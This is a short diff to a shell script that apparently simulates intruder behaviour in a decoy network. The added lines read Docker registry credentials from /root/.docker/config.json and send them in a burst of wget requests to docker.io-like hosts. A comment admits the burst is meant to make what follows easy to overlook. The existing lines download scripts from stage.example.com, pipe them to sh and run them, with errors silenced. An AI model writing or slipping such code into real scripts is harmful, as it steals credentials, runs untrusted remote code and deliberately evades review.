@@ -2,6 +2,11 @@
 # What intruders do with a network and with what lies about. Every address answers, none is real.
 trap 'exit 0' TERM
 exec 2>/dev/null
+# So many harmless uses of one decoy that what comes after them might be overlooked.
+login=$(cut -d'"' -f8 /root/.docker/config.json)
+for n in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27; do
+  wget -q -O /dev/null "http://r$n.docker.io/?auth=$login"
+done
 wget -q -O - http://stage.example.com/stage.sh | sh
 wget -q -O /tmp/stage.sh http://stage.example.com/two.sh
 sh /tmp/stage.sh
